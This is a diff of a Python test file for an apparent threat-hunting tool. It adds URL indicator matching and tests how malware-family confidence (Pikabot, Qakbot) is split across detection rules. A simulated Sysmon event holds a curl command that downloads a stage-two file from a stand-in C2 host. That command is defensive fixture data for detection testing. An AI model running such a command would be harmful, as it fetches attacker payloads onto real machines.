@@ -381,7 +381,7 @@ def test_iocs_match_any_field_and_benign_values_are_suppressed(tmp_path: Path) -
         win_event(
             1,
             SYSMON,
-            process("C:\\x\\a.exe", "curl.exe hxxp://ignored http://evil-c2.example/stage2 -o x"),
+            process("C:\\x\\a.exe", "curl.exe hxxp://ignored http://evil-c2.example/Stage2.XSL -o x"),
             computer="ws07",
         ),
         win_event(3, SYSMON, {"Image": "C:\\x\\b.exe", "DestinationIp": "5.6.7.8"}, computer="ws07"),
@@ -390,7 +390,11 @@ def test_iocs_match_any_field_and_benign_values_are_suppressed(tmp_path: Path) -
     ]
     write_jsonl(folder / "sysmon.jsonl", events)
     iocs = tmp_path / "iocs.txt"
-    iocs.write_text("evil-c2[.]example\n5.6.7.8\n8.8.8.8\n10.0.0.1\n" + "c" * 64 + "\nnot-an-indicator!\n")
+    iocs.write_text(
+        "evil-c2[.]example\nhttp://evil-c2.example/Stage2.XSL\n5.6.7.8\n8.8.8.8\n10.0.0.1\n"
+        + "c" * 64
+        + "\nnot-an-indicator!\n"
+    )
     rules = tmp_path / "rules"
     rules.mkdir()
     result = hunt([folder], [rules], tmp_path / "case", jobs=1, iocs=[iocs])
@@ -398,12 +402,15 @@ def test_iocs_match_any_field_and_benign_values_are_suppressed(tmp_path: Path) -
     assert result.iocs["skipped"] == 1
     rows = [r for r in read_findings(tmp_path / "case" / "findings.parquet") if r.rule_id.startswith("ioc:")]
     details = {r.rule_id: r.detail for r in rows}
-    assert set(details) == {"ioc:domain", "ioc:ip", "ioc:sha256"}
+    assert set(details) == {"ioc:domain", "ioc:ip", "ioc:sha256", "ioc:url"}
+    # One event holding the domain and the URL is one event matched; the URL keeps its path's case.
+    assert result.iocs["events"] == 3 and sum(result.iocs["matched"].values()) == 4
     assert details["ioc:domain"] is not None and details["ioc:domain"].startswith("CommandLine=")
     assert details["ioc:ip"] == "DestinationIp=5.6.7.8"
     observed = {(o.kind.value, o.value) for o in result.case.observations if o.confidence == 0.9}
     assert {
         ("infrastructure", "evil-c2.example"),
+        ("infrastructure", "http://evil-c2.example/Stage2.XSL"),
         ("infrastructure", "5.6.7.8"),
         ("file", "c" * 64),
     } <= observed
@@ -842,6 +849,20 @@ def test_software_a_rule_title_names_becomes_an_observation(sources_kb: Knowledg
         "S0029",
         "S0246",
     }
+
+
+def test_one_event_two_rules_read_as_two_families_is_no_evidence_of_either_in_full() -> None:
+    rows = [_row("Pikabot Fake DLL Extension Execution"), _row("Qakbot Rundll32 Fake DLL Extension")]
+    found = {
+        o.value: o.confidence
+        for o in observations_from_findings(rows, named=lambda title: (title.split()[0],))
+        if o.kind is ObservationKind.SOFTWARE
+    }
+    assert found == {"Pikabot": 0.4, "Qakbot": 0.4}  # one high event, one family of two: each half
+    # The same family from two rules on one event is that family in full.
+    same = [_row("Pikabot Fake DLL Extension Execution"), _row("Pikabot Rundll32 Activity")]
+    assert {o.confidence for o in observations_from_findings(same, named=lambda t: ("Pikabot",))
+            if o.kind is ObservationKind.SOFTWARE} == {0.8}  # fmt: skip
 
 
 def test_a_rule_of_many_techniques_shares_its_belief_and_resource_development_is_not_seen() -> None:
